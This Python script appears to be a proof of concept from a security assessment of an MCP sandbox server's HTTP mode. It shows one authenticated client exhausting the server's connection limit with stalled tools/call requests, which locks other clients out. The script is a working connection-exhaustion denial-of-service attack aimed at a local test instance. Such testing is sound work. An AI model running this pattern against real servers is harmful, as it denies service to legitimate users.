#!/usr/bin/env python3
"""atk39 F3: serve --http with a token: one client's session holds every connection place
(limits.max_connections, 256) with tools/call POSTs waiting for a slot (max_concurrent = 1, one call
running `sleep`): the connection bound evicts only unauthenticated, body-stalled or idle
connections, so every other client's new connection is closed unanswered until limits.timeout,
and its idle keep-alive connection is the one evicted. Needs setup.sh and the image."""
import os, sys, json, socket, subprocess, time, threading, http.client
TOKEN = open("/tmp/atk39/tok").read().strip(); PORT = 18765
srv = subprocess.Popen(["/tmp/atk39/mcpsandbox", "serve", "--policy", "/tmp/atk39/http1.toml", "--http", "127.0.0.1:%d" % PORT,
                        "--token-file", "/tmp/atk39/tok"], env={"HOME": "/tmp/atk39/home", "PATH": "/usr/bin:/bin"},
                       stderr=open("/tmp/atk39/f3.serve.log", "wb"))
time.sleep(1.5)
H = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream", "Authorization": "Bearer " + TOKEN}
def init(conn=None):
    c = conn or http.client.HTTPConnection("127.0.0.1", PORT, timeout=10)
    c.request("POST", "/mcp", json.dumps({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "x", "version": "1"}}}), H)
    r = c.getresponse(); r.read(); sid = r.getheader("Mcp-Session-Id")
    c.request("POST", "/mcp", json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}), dict(H, **{"Mcp-Session-Id": sid}))
    r = c.getresponse(); r.read()
    return c, sid
def raw_call(sid, i, script):
    body = json.dumps({"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": {"name": "run_shell_sandbox", "arguments": {"script": script}}}).encode()
    s = socket.create_connection(("127.0.0.1", PORT))
    s.sendall(("POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n"
               "Authorization: Bearer %s\r\nMcp-Session-Id: %s\r\nContent-Length: %d\r\n\r\n" % (TOKEN, sid, len(body))).encode() + body)
    return s
victim_conn, victim_sid = init()          # the victim's session and its keep-alive connection
print("victim session up:", victim_sid[:8])
_, att = init()
held = [raw_call(att, 1, "sleep 35")]
time.sleep(0.5)
for i in range(2, 300):                  # waiters: no container, only a connection each
    try: held.append(raw_call(att, i, "echo waiter"))
    except Exception as e: print("attacker connect", i, e); break
time.sleep(2)
print("attacker holds", len(held), "connections")
def victim_try(label, conn=None):
    t = time.time()
    try:
        c, sid = init(conn)
        print(label, "-> session started in %.2fs" % (time.time() - t))
    except Exception as e:
        print(label, "-> FAILED after %.2fs: %r" % (time.time() - t, e))
victim_try("victim: request on its existing keep-alive connection", victim_conn)
for k in range(3):
    victim_try("victim: new connection #%d" % k)
    time.sleep(1)
print("serve log (bound lines):")
for l in open("/tmp/atk39/f3.serve.log", errors="replace"):
    if "connection" in l.lower(): print("  ", l.strip()[:300])
for s in held: s.close()
srv.terminate(); srv.wait()
